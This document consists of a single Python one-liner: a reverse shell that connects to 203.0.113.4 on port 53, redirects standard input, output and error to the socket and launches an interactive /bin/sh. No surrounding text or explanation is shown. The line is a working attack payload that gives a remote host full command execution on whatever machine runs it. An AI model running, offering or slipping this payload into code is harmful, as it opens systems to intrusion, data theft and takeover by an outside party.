python3 -c 'import socket,subprocess as s,os;c=socket.socket();c.connect(("203.0.113.4",53));[os.dup2(c.fileno(),i) for i in range(3)];s.call(["/bin/sh","-i"])'
